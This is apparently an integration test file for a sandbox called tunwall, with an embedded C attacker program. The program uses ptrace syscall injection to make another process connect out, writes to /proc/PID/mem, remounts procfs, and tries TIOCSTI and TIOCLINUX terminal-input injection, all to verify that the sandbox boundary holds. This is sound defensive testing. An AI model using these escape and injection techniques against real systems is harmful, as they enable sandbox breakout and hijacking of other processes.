package integration

// Attacks on the sandbox boundary (ARCHITECTURE.md, "One boundary"): every
// process that shares the sandbox's user namespace, or that a sandboxed
// process can ptrace, signal or write the memory of, lives in the TUN-only
// network namespace; the sandbox is never host uid 0 and holds no host
// capability; it cannot inject input into the user's terminal; and it gets no
// descriptor tunwall did not mean to give it.
//
// The attacks are a small C program (attackSource) that the test builds with
// gcc: it does what a hostile sandboxed program would, with real ptrace,
// /proc/PID/mem writes, mounts and ioctls, and prints what worked. The test
// also looks at the sandbox from the host, where nothing can be hidden from
// it: which processes are in the sandbox's user or pid namespace tree, and
// which network namespace and host ids they have.

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// attackSource is the sandboxed attacker. Subcommands:
//
//	procs SCRATCH RELEASE  try to take over every process it can see, then
//	                       print SCAN and wait (bounded) for RELEASE to exist
//	tty                    try every way to push input into the terminal
//	fds                    print the descriptors it was started with
const attackSource = `
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
#ifdef __x86_64__
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/user.h>
#endif

static const char *res(long r) { return r == 0 ? "ok" : strerrorname_np(errno); }

static char self_net[64] = "?";

static void netns_of(const char *dir, const char *pid, char *out, size_t n) {
	char p[512], l[128];
	snprintf(p, sizeof p, "%s/%s/ns/net", dir, pid);
	ssize_t k = readlink(p, l, sizeof l - 1);
	if (k <= 0) { snprintf(out, n, "?"); return; }
	l[k] = 0;
	char *a = strchr(l, '['), *b = strchr(l, ']');
	if (!a || !b) { snprintf(out, n, "?"); return; }
	*b = 0;
	snprintf(out, n, "%s", a + 1);
}

static void comm_of(const char *dir, const char *pid, char *out, size_t n) {
	char p[512];
	snprintf(p, sizeof p, "%s/%s/comm", dir, pid);
	snprintf(out, n, "?");
	FILE *f = fopen(p, "re");
	if (!f) return;
	if (fgets(out, n, f)) {
		for (char *c = out; *c; c++) if (*c == '\n' || *c == ' ') *c = *c == '\n' ? 0 : '_';
	}
	fclose(f);
}

/* 0: no access; 1: opened /proc/PID/mem for writing; 2: wrote a byte. */
static int try_mem(const char *dir, const char *pid) {
	char p[512];
	snprintf(p, sizeof p, "%s/%s/mem", dir, pid);
	int fd = open(p, O_RDWR | O_CLOEXEC);
	if (fd < 0) return 0;
	int wrote = 0;
	snprintf(p, sizeof p, "%s/%s/maps", dir, pid);
	FILE *f = fopen(p, "re");
	if (f) {
		char line[1024];
		while (fgets(line, sizeof line, f)) {
			unsigned long lo, hi;
			char perms[8];
			if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[0] == 'r' && perms[1] == 'w') {
				unsigned char b;
				/* Write back the byte that is there: the process goes on as before. */
				if (pread(fd, &b, 1, (off_t)lo) == 1 && pwrite(fd, &b, 1, (off_t)lo) == 1) wrote = 1;
				break;
			}
		}
		fclose(f);
	}
	close(fd);
	return wrote ? 2 : 1;
}

static int try_ptrace(pid_t pid) {
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return 0;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
		int st;
		waitpid(pid, &st, __WALL);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 1;
}

/* Targets to take over for real: processes it could ptrace in another
   network namespace (none, if the boundary holds). */
static pid_t targets[64];
static int ntargets;

#ifdef __x86_64__
/* Run one system call in a stopped tracee, at a syscall instruction. */
static long remote_syscall(pid_t pid, const struct user_regs_struct *base, unsigned long insn, long nr, long a1, long a2, long a3) {
	struct user_regs_struct r = *base;
	r.rax = nr;
	r.orig_rax = -1; /* no syscall restart on resume */
	r.rdi = a1;
	r.rsi = a2;
	r.rdx = a3;
	r.rip = insn;
	int st;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) || waitpid(pid, &st, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &r))
		return -100000;
	return (long)r.rax;
}

/* Make process pid connect to IP:PORT from its own network namespace: the
   attack the boundary exists to stop. */
static void inject_connect(pid_t pid, const char *label, const char *ip, int port) {
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) { printf("INJECT %s seize-%s\n", label, strerrorname_np(errno)); return; }
	int st;
	struct user_regs_struct base;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &st, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &base) != 0) {
		printf("INJECT %s stop-failed\n", label);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return;
	}
	/* A tracee stopped in a system call sits just after its syscall instruction. */
	errno = 0;
	long w = ptrace(PTRACE_PEEKTEXT, pid, base.rip - 2, 0);
	if (errno || (w & 0xffff) != 0x050f) {
		printf("INJECT %s no-syscall-instruction\n", label);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return;
	}
	unsigned long insn = base.rip - 2;
	unsigned long mem = (base.rsp - 512) & ~15UL;
	long saved[2];
	saved[0] = ptrace(PTRACE_PEEKDATA, pid, mem, 0);
	saved[1] = ptrace(PTRACE_PEEKDATA, pid, mem + 8, 0);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, ip, &sa.sin_addr);
	long words[2];
	memcpy(words, &sa, sizeof sa);
	ptrace(PTRACE_POKEDATA, pid, mem, words[0]);
	ptrace(PTRACE_POKEDATA, pid, mem + 8, words[1]);
	long fd = remote_syscall(pid, &base, insn, SYS_socket, AF_INET, SOCK_STREAM, 0);
	long rc = -100001;
	if (fd >= 0) {
		rc = remote_syscall(pid, &base, insn, SYS_connect, fd, (long)mem, sizeof sa);
		remote_syscall(pid, &base, insn, SYS_close, fd, 0, 0);
	}
	ptrace(PTRACE_POKEDATA, pid, mem, saved[0]);
	ptrace(PTRACE_POKEDATA, pid, mem + 8, saved[1]);
	ptrace(PTRACE_SETREGS, pid, 0, &base);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	printf("INJECT %s socket=%ld connect=%s\n", label, fd, rc == 0 ? "ok" : rc < 0 && rc > -4096 ? strerrorname_np((int)-rc) : "failed");
	fflush(stdout);
}
#endif

/* Is dir a procfs of our own pid namespace (its "self" is us)? */
static int own_view(const char *dir) {
	char p[512], l[64];
	snprintf(p, sizeof p, "%s/self", dir);
	ssize_t k = readlink(p, l, sizeof l - 1);
	if (k <= 0) return 0;
	l[k] = 0;
	return atoi(l) == getpid();
}

static void probe_view(const char *dir) {
	int own = own_view(dir);
	printf("VIEW %s %s\n", dir, own ? "own" : "foreign");
	DIR *d = opendir(dir);
	if (!d) return;
	struct dirent *e;
	while ((e = readdir(d))) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		if (*end || pid <= 0) continue;
		char net[64], comm[64];
		const char *how[4] = {0};
		int n = 0;
		if (own) {
			if (pid != getpid() && try_ptrace(pid)) how[n++] = "ptrace";
			if (kill(pid, 0) == 0) how[n++] = "signal";
		} else {
			int pfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			char p[512];
			snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
			int dfd = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			if (dfd >= 0 && syscall(SYS_pidfd_send_signal, dfd, 0, NULL, 0) == 0) how[n++] = "pidfd-signal";
			if (dfd >= 0) close(dfd);
			if (pfd >= 0) close(pfd);
		}
		int m = try_mem(dir, e->d_name);
		if (m == 2) how[n++] = "mem-write";
		else if (m == 1) how[n++] = "mem-open";
		if (!n) continue;
		netns_of(dir, e->d_name, net, sizeof net);
		comm_of(dir, e->d_name, comm, sizeof comm);
		for (int i = 0; i < n; i++) {
			printf("REACH %s %ld %s %s view=%s\n", how[i], pid, net, comm, dir);
			if (!strcmp(how[i], "ptrace") && strcmp(net, self_net) && ntargets < 64) targets[ntargets++] = (pid_t)pid;
		}
	}
	closedir(d);
	fflush(stdout);
}

/* Every procfs mounted in our mount namespace, as we see it now. */
static int proc_views(char views[][256], int max) {
	int n = 0;
	FILE *f = fopen("/proc/self/mountinfo", "re");
	if (!f) return 0;
	char line[4096];
	while (n < max && fgets(line, sizeof line, f)) {
		char *sep = strstr(line, " - ");
		if (!sep || strncmp(sep + 3, "proc ", 5) != 0) continue;
		char mp[256];
		if (sscanf(line, "%*s %*s %*s %*s %255s", mp) != 1) continue;
		int dup = 0;
		for (int i = 0; i < n; i++) if (!strcmp(views[i], mp)) dup = 1;
		if (!dup) snprintf(views[n++], 256, "%s", mp);
	}
	fclose(f);
	return n;
}

static void probe_all(void) {
	char views[32][256];
	int n = proc_views(views, 32);
	if (n == 0) { snprintf(views[0], 256, "/proc"); n = 1; }
	for (int i = 0; i < n; i++) probe_view(views[i]);
}

static int procs(const char *scratch, const char *release) {
	netns_of("/proc", "self", self_net, sizeof self_net);
	printf("SELF %s\n", self_net);
	/* Uncover whatever lies under /proc, and get a procfs of our own. */
	printf("MOUNT umount-proc %s\n", res(umount2("/proc", 0)));
	printf("MOUNT umount-lazy-proc %s\n", res(umount2("/proc", MNT_DETACH)));
	printf("MOUNT mount-proc %s\n", res(mount("proc", scratch, "proc", 0, NULL)));
	printf("MOUNT remount-sys-rw %s\n", res(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
	fflush(stdout);
	probe_all();
	/* The same from a user namespace of our own, where we hold every capability. */
	pid_t c = fork();
	if (c == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) { printf("MOUNT nested-userns %s\n", res(-1)); _exit(0); }
		printf("MOUNT nested-umount-proc %s\n", res(umount2("/proc", MNT_DETACH)));
		printf("MOUNT nested-mount-proc %s\n", res(mount("proc", scratch, "proc", 0, NULL)));
		fflush(stdout);
		probe_all();
		_exit(0);
	}
	waitpid(c, NULL, 0);
#ifdef __x86_64__
	/* The injector works: a child of ours, in our network, connects (and
	   tunwall refuses it). Then the real targets, if any. */
	pid_t ctl = fork();
	if (ctl == 0) { for (;;) pause(); }
	usleep(100000);
	inject_connect(ctl, "control", "192.0.2.66", 443);
	kill(ctl, SIGKILL);
	waitpid(ctl, NULL, 0);
	for (int i = 0; i < ntargets; i++) {
		char label[32];
		snprintf(label, sizeof label, "%d", targets[i]);
		inject_connect(targets[i], label, "192.0.2.66", 443);
	}
#endif
	printf("DONE\nSCAN\n");
	fflush(stdout);
	/* Stay alive (bounded) while the test looks at us from the host. */
	for (int i = 0; i < 1200 && access(release, F_OK) != 0; i++) usleep(50000);
	return 0;
}

static void tty_report(const char *name, long r) { printf("%s %s\n", name, r == 0 ? "ok" : strerrorname_np(errno)); }

static int tty(void) {
	const char *inject = "echo pwned\n";
	long r = 0;
	for (const char *c = inject; *c && r == 0; c++) r = ioctl(0, TIOCSTI, c);
	tty_report("TIOCSTI", r);
	/* The kernel reads the command as an unsigned int: the high bits must not matter. */
	tty_report("TIOCSTI-high-bits", syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, "x"));
	char sel[1 + 5 * 2] = {2};
	tty_report("TIOCLINUX", ioctl(0, TIOCLINUX, sel));
#ifdef __x86_64__
	/* The i386 ABI (int 0x80, ioctl is 54), from a 64-bit process. */
	pid_t c = fork();
	if (c == 0) {
		char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
		if (low == MAP_FAILED) _exit(100);
		low[0] = 'x';
		long ret;
		__asm__ volatile("int $0x80" : "=a"(ret) : "a"(54), "b"(0), "c"(TIOCSTI), "d"(low) : "memory", "r8", "r9", "r10", "r11");
		_exit(ret == 0 ? 0 : ret == -EPERM ? 1 : 2);
	}
	int st = 0;
	waitpid(c, &st, 0);
	printf("TIOCSTI-i386 %s\n", WIFEXITED(st) ? (WEXITSTATUS(st) == 0 ? "ok" : WEXITSTATUS(st) == 1 ? "EPERM" : "failed") : "no-i386-abi");
	/* The x32 ABI: syscall number with bit 30 set (ioctl is 514). */
	tty_report("TIOCSTI-x32", syscall(0x40000000 | 514, 0, TIOCSTI, "x"));
#endif
	int q = -1;
	ioctl(0, FIONREAD, &q);
	printf("INQ %d\n", q);
	int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
	printf("DEVTTY %s\n", fd >= 0 ? "ok" : strerrorname_np(errno));
	fflush(stdout);
	return 0;
}

static int fds(void) {
	printf("FDS");
	for (int fd = 0; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) == 0) printf(" %d", fd);
	}
	printf("\n");
	return 0;
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "procs")) return procs(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "tty")) return tty();
	if (argc == 2 && !strcmp(argv[1], "fds")) return fds();
	fprintf(stderr, "usage: attack procs SCRATCH RELEASE | tty | fds\n");
	return 2;
}
`

// buildAttacker compiles attackSource into the world's directory, readable
// and executable by every user.
func (w *world) buildAttacker() string {
	w.t.Helper()
	requireTools(w.t, "gcc")
	src := filepath.Join(w.dir, "attack.c")
	bin := filepath.Join(w.dir, "attack")
	if err := os.WriteFile(src, []byte(attackSource), 0o644); err != nil {
		w.t.Fatal(err)
	}
	if out, err := exec.Command("gcc", "-O1", "-Wall", "-o", bin, src).CombinedOutput(); err != nil {
		w.t.Fatalf("gcc: %v\n%s", err, out)
	}
	os.Chmod(bin, 0o755)
	return bin
}

// sandboxProc is one host process as the host sees it.
type sandboxProc struct {
	pid              int
	comm             string
	netns            uint64
	uids, gids       []string // real, effective, saved, fs (host ids)
	groups           []string
	inUserTree       bool // in the sandbox's top user namespace or below it
	inPidTree        bool // in the attacker's pid namespace or below it
	state            string
	capEff, capBound string
}

const nsGetParent = 0xb702 // NS_GET_PARENT

// nsChain returns the inodes of the namespace at path and of its ancestors,
// as far as the caller may see (NS_GET_PARENT fails above its own).
func nsChain(path string) []uint64 {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil
	}
	var out []uint64
	for i := 0; i < 64; i++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			break
		}
		out = append(out, st.Ino)
		parent, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), nsGetParent, 0)
		unix.Close(fd)
		if errno != 0 {
			return out
		}
		fd = int(parent)
	}
	unix.Close(fd)
	return out
}

func nsIno(path string) uint64 {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return 0
	}
	return st.Ino
}

func contains(s []uint64, v uint64) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// scanHost looks at every process on the host from outside, given the host
// pid of one sandboxed process. The sandbox's user namespace tree is rooted
// at the topmost user namespace above that process that is not ours; its pid
// namespace tree at that process's pid namespace.
func scanHost(t *testing.T, sandboxed int) (top, pidns, netns uint64, procs []sandboxProc) {
	t.Helper()
	ours := nsIno("/proc/self/ns/user")
	chain := nsChain(fmt.Sprintf("/proc/%d/ns/user", sandboxed))
	for i, ino := range chain {
		if ino == ours {
			if i == 0 {
				t.Fatalf("process %d is in the test's own user namespace", sandboxed)
			}
			top = chain[i-1]
			break
		}
	}
	if top == 0 {
		t.Fatalf("no user namespace of the sandbox found above process %d (chain %v, ours %d)", sandboxed, chain, ours)
	}
	pidns = nsIno(fmt.Sprintf("/proc/%d/ns/pid", sandboxed))
	netns = nsIno(fmt.Sprintf("/proc/%d/ns/net", sandboxed))
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		pid, err := strconv.Atoi(filepath.Base(d))
		if err != nil {
			continue
		}
		p := sandboxProc{pid: pid}
		p.inUserTree = contains(nsChain(d+"/ns/user"), top)
		p.inPidTree = contains(nsChain(d+"/ns/pid"), pidns)
		if !p.inUserTree && !p.inPidTree {
			continue
		}
		p.netns = nsIno(d + "/ns/net")
		b, err := os.ReadFile(d + "/status")
		if err != nil {
			continue // gone
		}
		for _, l := range strings.Split(string(b), "\n") {
			k, v, _ := strings.Cut(l, ":")
			f := strings.Fields(v)
			switch k {
			case "Name":
				p.comm = strings.TrimSpace(v)
			case "State":
				if len(f) > 0 {
					p.state = f[0]
				}
			case "Uid":
				p.uids = f
			case "Gid":
				p.gids = f
			case "Groups":
				p.groups = f
			case "CapEff":
				p.capEff = strings.TrimSpace(v)
			case "CapBnd":
				p.capBound = strings.TrimSpace(v)
			}
		}
		procs = append(procs, p)
	}
	return top, pidns, netns, procs
}

// hostPidWith finds the host pid of a process below root whose command line
// contains marker; of several (bwrap's own command line holds the script it
// runs), the one deepest in nested pid and user namespaces.
func hostPidWith(root int, marker string) int {
	best, depth := 0, -1
	for _, p := range descendants(root) {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p))
		if !strings.Contains(string(b), marker) {
			continue
		}
		d := 100*len(nsChain(fmt.Sprintf("/proc/%d/ns/pid", p))) + len(nsChain(fmt.Sprintf("/proc/%d/ns/user", p)))
		if d >= depth {
			best, depth = p, d
		}
	}
	return best
}

// runAndScan runs tunwall like w.run, and when the sandbox prints a line
// "SCAN", calls scan with the host pid of the process whose command line
// holds release, then creates release so the sandbox can finish.
func (w *world) runAndScan(o runOpts, release string, scan func(tunwallPid, sandboxed int)) result {
	w.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	sub := "run"
	if o.bwrap != nil {
		sub = "bwrap"
	}
	cmd, auditPath := w.tunwallCmd(ctx, o, sub)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		w.t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		w.t.Fatal(err)
	}
	defer os.WriteFile(release, nil, 0o644) // never leave the sandbox waiting
	var stdout strings.Builder
	br := bufio.NewReader(out)
	scanned := false
	for {
		line, err := br.ReadString('\n')
		stdout.WriteString(line)
		if strings.TrimSpace(line) == "SCAN" && !scanned {
			scanned = true
			if p := hostPidWith(cmd.Process.Pid, release); p > 0 {
				scan(cmd.Process.Pid, p)
			} else {
				w.t.Errorf("no sandboxed process holding %s found below tunwall (%d)", release, cmd.Process.Pid)
			}
			os.WriteFile(release, nil, 0o644)
		}
		if err != nil {
			break
		}
	}
	err = cmd.Wait()
	r := result{stdout: stdout.String(), stderr: stderr.String(), audit: auditPath}
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		w.t.Fatalf("tunwall %s: %v\n%s", sub, err, r)
	}
	if ctx.Err() != nil {
		w.t.Fatalf("tunwall %s timed out\n%s", sub, r)
	}
	if !scanned {
		w.t.Errorf("the sandbox never got to SCAN\n%s", r)
	}
	return r
}

// boundaryCase is one way of running a sandbox.
type boundaryCase struct {
	name   string
	asUser int
	bwrap  []string // nil: tunwall run
}

func boundaryCases() []boundaryCase {
	readme := []string{"--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-pid"}
	noPid := []string{"--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"}
	// The host's /proc as it is: --ro-bind / / brings it along.
	hostProc := []string{"--ro-bind", "/", "/", "--dev", "/dev"}
	var cs []boundaryCase
	for _, u := range []struct {
		name string
		uid  int
	}{{"root", 0}, {"rootless", 65534}} {
		cs = append(cs,
			boundaryCase{"run/" + u.name, u.uid, nil},
			boundaryCase{"bwrap-readme-args/" + u.name, u.uid, readme},
			boundaryCase{"bwrap-without-unshare-pid/" + u.name, u.uid, noPid},
			boundaryCase{"bwrap-host-proc-visible/" + u.name, u.uid, hostProc},
		)
	}
	return cs
}

func (w *world) forCase(c boundaryCase) {
	if c.asUser != 0 {
		requireTools(w.t, "setpriv")
		if err := os.Chmod("/dev/net/tun", 0o666); err != nil {
			w.t.Fatal(err)
		}
	}
	if c.bwrap != nil {
		requireTools(w.t, "bwrap")
	}
}

// TestNoProcessTheSandboxCanReachHasAnotherNetwork attacks property 1: from
// inside, a real PTRACE_SEIZE, a /proc/PID/mem write and a signal at every
// process the sandbox can see, after trying to uncover the host's procfs;
// from outside, every process in the sandbox's user or pid namespace tree
// must be in the sandbox's network namespace, and tunwall itself in none of
// them.
func TestNoProcessTheSandboxCanReachHasAnotherNetwork(t *testing.T) {
	w := newWorld(t)
	attacker := w.buildAttacker()
	for i, c := range boundaryCases() {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			w.forCase(c)
			scratch := filepath.Join(w.dir, fmt.Sprintf("scratch-%d", i))
			os.Mkdir(scratch, 0o777)
			os.Chmod(scratch, 0o777)
			release := filepath.Join(w.dir, fmt.Sprintf("release-%d", i))
			evilBefore := len(w.Arrivals("evil"))
			var top, netns uint64
			var procs []sandboxProc
			var tunwallUserTree bool
			r := w.runAndScan(runOpts{
				asUser: c.asUser,
				bwrap:  c.bwrap,
				flags:  []string{"--allow", "allowed.test:80", "--quiet"},
				argv:   []string{attacker, "procs", scratch, release},
			}, release, func(tw, sandboxed int) {
				top, _, netns, procs = scanHost(t, sandboxed)
				tunwallUserTree = contains(nsChain(fmt.Sprintf("/proc/%d/ns/user", tw)), top)
			})
			if r.code != 0 {
				t.Fatalf("attacker did not finish\n%s", r)
			}
			t.Logf("attacker:\n%s", r.stdout)
			self := ""
			for _, l := range lines(r.stdout) {
				f := strings.Fields(l)
				if f[0] == "SELF" {
					self = f[1]
				}
			}
			if self == "" || self == "?" {
				t.Fatalf("the attacker could not read its own network namespace\n%s", r)
			}
			ownView := map[string]bool{}
			for _, l := range lines(r.stdout) {
				f := strings.Fields(l)
				if f[0] == "VIEW" && len(f) == 3 {
					ownView[f[1]] = f[2] == "own"
				}
				if f[0] != "REACH" || len(f) < 6 {
					continue
				}
				how, pid, net, view := f[1], f[2], f[3], strings.TrimPrefix(f[5], "view=")
				takeover := how == "ptrace" || strings.HasPrefix(how, "mem")
				switch {
				case net == self:
				case net == "?" && !takeover:
					// A signal to a process of its own pid namespace (the
					// kernel allows no other) whose namespaces it may not
					// read: the host scan below covers every one of them.
				default:
					t.Errorf("the sandbox can %s a process in another network namespace (%s, sandbox %s): %s", how, net, self, l)
				}
				if c.bwrap == nil && takeover && pid == "1" && ownView[view] {
					t.Errorf("the command can take over the sandbox's init, which holds tunwall's control socket: %s", l)
				}
			}
			if runtime.GOARCH == "amd64" && !strings.Contains(r.stdout, "INJECT control socket=") {
				t.Errorf("the injector did not work even on the attacker's own child\n%s", r)
			}
			if a := w.Arrivals("evil"); len(a) > evilBefore {
				t.Errorf("a process the sandbox took over reached the evil server: %+v", a[evilBefore])
			}
			if tunwallUserTree {
				t.Errorf("tunwall's own process is in the sandbox's user namespace tree")
			}
			bad := 0
			for _, p := range procs {
				if p.netns != netns && p.state != "Z" {
					if bad++; bad > 20 {
						continue
					}
					t.Errorf("host pid %d (%s) is in the sandbox's %s but in network namespace %d, not the sandbox's %d",
						p.pid, p.comm, map[bool]string{true: "user namespace tree", false: "pid namespace tree"}[p.inUserTree], p.netns, netns)
				}
			}
			if bad > 20 {
				t.Errorf("... and %d more such processes", bad-20)
			}
			if len(procs) == 0 {
				t.Errorf("the host scan found no sandboxed process at all")
			}
		})
	}
}

// hostRootIDs reports which of a process's host ids are 0.
func hostRootIDs(p sandboxProc) []string {
	var bad []string
	for i, u := range p.uids {
		if u == "0" {
			bad = append(bad, fmt.Sprintf("uid[%d]", i))
		}
	}
	for i, g := range p.gids {
		if g == "0" {
			bad = append(bad, fmt.Sprintf("gid[%d]", i))
		}
	}
	for _, g := range p.groups {
		if g == "0" {
			bad = append(bad, "supplementary group 0")
		}
	}
	return bad
}

// TestRootOutsideIsNotRootInside attacks property 3, as root: files only
// root (or group root) may read, a global sysctl, and the ids the host sees.
func TestRootOutsideIsNotRootInside(t *testing.T) {
	w := newWorld(t)
	secret := filepath.Join(w.dir, "root-only")
	groupSecret := filepath.Join(w.dir, "group-root-only")
	if err := os.WriteFile(secret, []byte("secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(groupSecret, []byte("secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	os.Chown(secret, 0, 0)
	os.Chown(groupSecret, 65533, 0)
	os.Chmod(secret, 0o600)
	os.Chmod(groupSecret, 0o040)
	before, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range []boundaryCase{
		{"run", 0, nil},
		{"bwrap", 0, []string{"--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-pid"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			w.forCase(c)
			release := filepath.Join(w.dir, fmt.Sprintf("release-ids-%d", i))
			// Writing the value that is already there changes nothing even
			// when it succeeds.
			script := fmt.Sprintf(`cat %s >/dev/null 2>&1; echo "root-only: $?"
cat %s >/dev/null 2>&1; echo "group-root-only: $?"
v=$(cat /proc/sys/kernel/core_pattern); (printf '%%s\n' "$v" > /proc/sys/kernel/core_pattern) 2>/dev/null; echo "core_pattern: $?"
awk '$5 == "/proc/sys" { split($6, o, ","); print "proc-sys-mount: " o[1] }' /proc/self/mountinfo | sort -u
echo SCAN
n=0; while [ ! -e %s ] && [ $n -lt 1200 ]; do sleep 0.05; n=$((n+1)); done`, secret, groupSecret, release)
			var procs []sandboxProc
			r := w.runAndScan(runOpts{
				bwrap:  c.bwrap,
				flags:  []string{"--allow", "allowed.test:80", "--quiet"},
				script: script,
			}, release, func(_, sandboxed int) {
				_, _, _, procs = scanHost(t, sandboxed)
			})
			t.Logf("inside:\n%s", r.stdout)
			for _, want := range []string{"root-only: 1", "group-root-only: 1"} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("want %q: the sandbox read a file only host root may read\n%s", want, r)
				}
			}
			if strings.Contains(r.stdout, "core_pattern: 0") {
				t.Errorf("the sandbox wrote kernel.core_pattern\n%s", r)
			}
			if c.bwrap == nil && !strings.Contains(r.stdout, "proc-sys-mount: ro") {
				t.Errorf("/proc/sys is not mounted read-only inside run\n%s", r)
			}
			if len(procs) == 0 {
				t.Fatal("the host scan found no sandboxed process")
			}
			for _, p := range procs {
				if bad := hostRootIDs(p); len(bad) > 0 {
					t.Errorf("host pid %d (%s) is host root: %v (Uid %v Gid %v Groups %v)", p.pid, p.comm, bad, p.uids, p.gids, p.groups)
				}
			}
		})
	}
	if after, _ := os.ReadFile("/proc/sys/kernel/core_pattern"); string(after) != string(before) {
		t.Errorf("kernel.core_pattern changed from %q to %q", before, after)
	}
}

// openPTY returns a pty's master and slave.
func openPTY(t *testing.T) (master, slave *os.File) {
	t.Helper()
	m, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.IoctlSetPointerInt(m, unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(m, unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	return os.NewFile(uintptr(m), "ptmx"), s
}

// ptyReader collects what the master reads and lets a test wait for text.
type ptyReader struct {
	mu   sync.Mutex
	buf  strings.Builder
	more chan struct{}
}

func newPTYReader(r io.Reader) *ptyReader {
	p := &ptyReader{more: make(chan struct{}, 1)}
	go func() {
		b := make([]byte, 4096)
		for {
			n, err := r.Read(b)
			p.mu.Lock()
			p.buf.Write(b[:n])
			p.mu.Unlock()
			select {
			case p.more <- struct{}{}:
			default:
			}
			if err != nil {
				return
			}
		}
	}()
	return p
}

func (p *ptyReader) String() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.buf.String()
}

// waitFor waits (at most d) until the output holds s.
func (p *ptyReader) waitFor(s string, d time.Duration) bool {
	deadline := time.After(d)
	for {
		if strings.Contains(p.String(), s) {
			return true
		}
		select {
		case <-p.more:
		case <-deadline:
			return false
		}
	}
}

// TestTheSandboxCannotTypeIntoTheTerminal attacks property 2 under a real
// pty that is tunwall's controlling terminal: TIOCSTI (native, with high bits
// set, through the i386 and x32 ABIs) and TIOCLINUX must fail with EPERM and
// leave nothing in the input queue, while a typed line still reaches the
// command, /dev/tty still opens and ^C still interrupts it.
func TestTheSandboxCannotTypeIntoTheTerminal(t *testing.T) {
	w := newWorld(t)
	attacker := w.buildAttacker()
	for _, c := range []boundaryCase{
		{"run/root", 0, nil},
		{"run/rootless", 65534, nil},
		{"bwrap/root", 0, bwrapBase},
		{"bwrap/rootless", 65534, bwrapBase},
	} {
		t.Run(c.name, func(t *testing.T) {
			w.t = t
			w.forCase(c)
			master, slave := openPTY(t)
			defer master.Close()
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			defer cancel()
			script := fmt.Sprintf(`%s tty; echo TYPE-A-LINE; read line; echo "got:$line"; trap 'echo interrupted; exit 3' INT; echo PRESS-CTRL-C; n=0; while [ $n -lt 600 ]; do sleep 0.05; n=$((n+1)); done; echo "not interrupted"`, attacker)
